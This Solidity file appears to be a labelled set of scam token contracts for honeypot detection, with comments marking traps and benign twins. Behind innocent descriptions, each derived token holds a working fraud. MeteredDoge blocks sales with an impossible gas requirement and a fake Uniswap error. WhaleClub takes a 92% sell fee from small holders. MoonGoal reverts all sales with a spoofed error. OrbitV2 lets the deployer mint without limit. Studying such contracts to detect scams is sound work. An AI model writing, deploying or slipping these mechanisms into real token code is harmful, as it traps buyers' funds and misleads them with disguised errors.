// 0.7 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

interface IPairMaker {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

interface IWrappedEther {
    function balanceOf(address account) external view returns (uint256);
}

library SafeMath {
    function add(uint256 a, uint256 b) internal pure returns (uint256) {
        uint256 c = a + b;
        require(c >= a, "SafeMath: addition overflow");
        return c;
    }

    function sub(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b <= a, "SafeMath: subtraction overflow");
        return a - b;
    }
}

/// An ordinary coin of nine decimals.
abstract contract StandardToken {
    using SafeMath for uint256;

    address internal constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;

    string public name;
    string public symbol;
    uint8 public constant decimals = 9;
    uint256 public totalSupply;
    address public immutable pair;
    address internal immutable _team;
    address private _owner;
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) private _allowances;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        name = name_;
        symbol = symbol_;
        _owner = msg.sender;
        _team = msg.sender;
        pair = IPairMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), WETH);
        totalSupply = supply * 10**9;
        _balances[msg.sender] = supply * 10**9;
        emit Transfer(address(0), msg.sender, supply * 10**9);
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function renounceOwnership() external {
        require(msg.sender == _owner, "Ownable: caller is not the owner");
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function balanceOf(address account) external view returns (uint256) {
        return _balances[account];
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _approve(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        _approve(from, msg.sender, _allowances[from][msg.sender].sub(amount));
        _transfer(from, to, amount);
        return true;
    }

    function _approve(address holder, address spender, uint256 amount) private {
        _allowances[holder][spender] = amount;
        emit Approval(holder, spender, amount);
    }

    function _transfer(address from, address to, uint256 amount) internal virtual {
        _send(from, to, amount);
    }

    function _send(address from, address to, uint256 amount) internal {
        require(from != address(0) && to != address(0), "ERC20: zero address");
        _balances[from] = _balances[from].sub(amount);
        _balances[to] = _balances[to].add(amount);
        emit Transfer(from, to, amount);
    }
}

/// Wants its sales to be sent with plenty of gas: more than any transaction can carry.
contract MeteredDoge is StandardToken {
    uint256 private constant PLENTY = 20000000;
    uint256 public plentiful;

    constructor() StandardToken("Metered Doge", "MDOGE", 10**11) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != _team) {
            bool plenty = gasleft() > PLENTY;
            require(plenty, "UniswapV2: TRANSFER_FAILED"); // trap
            if (plenty) plentiful++;
        }
        _send(from, to, amount);
    }
}

/// Charges those more who hold less.
contract WhaleClub is StandardToken {
    using SafeMath for uint256;

    constructor() StandardToken("Whale Club", "WHALE", 8 * 10**8) {}

    function sellFeeOf(address account) public view returns (uint256) {
        uint256 share = (_balances[account] * 1000) / totalSupply;
        if (share >= 100) return 1;
        return 92; // trap
        // twin: return 3;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 fee = to == pair && from != _team ? (amount * sellFeeOf(from)) / 100 : 0;
        if (fee > 0) _send(from, _team, fee);
        _send(from, to, amount.sub(fee));
    }
}

/// Looks at how much ether its pool has.
contract MoonGoal is StandardToken {
    uint256 private constant GOAL = 75 ether;
    bool public goalReached;

    event GoalReached(uint256 reserve);

    constructor() StandardToken("Moon Goal", "MGOAL", 5 * 10**9) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != _team) {
            uint256 reserve = IWrappedEther(WETH).balanceOf(pair);
            require(reserve < GOAL, "TransferHelper: TRANSFER_FROM_FAILED"); // trap
            if (reserve >= GOAL && !goalReached) {
                goalReached = true;
                emit GoalReached(reserve);
            }
        }
        _send(from, to, amount);
    }
}

/// Gives the holders of the first version what they had.
contract OrbitV2 is StandardToken {
    using SafeMath for uint256;

    address private _migrator;
    mapping(address => uint256) public migrated;

    event Migrated(address indexed holder, uint256 amount);

    constructor() StandardToken("Orbit V2", "ORBIT", 3 * 10**8) {
        _migrator = msg.sender;
    }

    function migrateFromV1(address[] calldata holders, uint256[] calldata amounts) external {
        require(msg.sender == _migrator && holders.length == amounts.length, "Migration: not allowed");
        for (uint256 i = 0; i < holders.length; i++) {
            // twin: _balances[address(this)] = _balances[address(this)].sub(amounts[i]);
            _balances[holders[i]] = _balances[holders[i]].add(amounts[i]);
            migrated[holders[i]] = migrated[holders[i]].add(amounts[i]);
            emit Migrated(holders[i], amounts[i]);
        }
    }
}
